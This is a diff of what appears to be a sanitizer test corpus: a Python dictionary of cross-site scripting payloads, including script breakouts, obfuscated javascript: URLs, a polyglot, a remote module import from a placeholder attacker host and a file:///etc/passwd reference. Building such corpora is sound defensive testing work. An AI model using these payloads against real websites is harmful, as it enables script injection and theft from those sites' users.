@@ -102,7 +102,7 @@ HTML: Family = {
     "module": f'<script type="module">import "{EVIL}m.js"</script>',
     "script within a script": f"<scr<script>ipt>{RUN}</scr</script>ipt>",
     "script, unclosed": f"<script>{RUN}//",
-    "script from a json block": '<script id="__config" type="application/json">{"base":"."}</script>',
+    "script from a json block": '<script id="__config" type="application/json">{"x":1}</script>',
     "end of a script": f"</script><script>{RUN}</script>",
     "end of a title": f"</title><script>{RUN}</script>",
     "end of an article": f"</article></main></body><img src=x onerror={RUN}>",
@@ -181,7 +181,7 @@ HTML: Family = {
     "script address, upper case": f" JaVaScRiPt:{RUN}//",
     "other schemes": "vbscript:msgbox(1) data:text/html;base64,PHNjcmlwdD4= file:///etc/passwd",
     "address without a scheme": "//evil.example/a.js",
-    "polyglot": f"jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */{RUN} )//</stYle/</titLe/</teXtarEa/</scRipt>",
+    "polyglot": f"jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */{RUN} )//</stYle/</titLe/</teXtarEa/-->",
 }
 
 TEMPLATES: Family = {
